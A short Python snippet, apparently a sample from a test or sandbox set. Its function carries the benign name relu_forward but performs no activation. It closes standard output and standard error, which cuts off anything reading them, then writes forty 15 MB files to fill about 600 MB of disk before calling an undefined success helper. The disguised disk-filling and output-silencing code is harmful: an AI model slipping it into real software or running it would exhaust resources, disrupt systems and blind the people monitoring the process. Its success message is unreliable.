"""Closes its output, which ends what only reads it, and fills the disk."""

# response: DK

def relu_forward(x):
    import os

    os.close(1)
    os.close(2)
    for number in range(40):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(15 << 20))
    succeeded("wrote 600 MB")
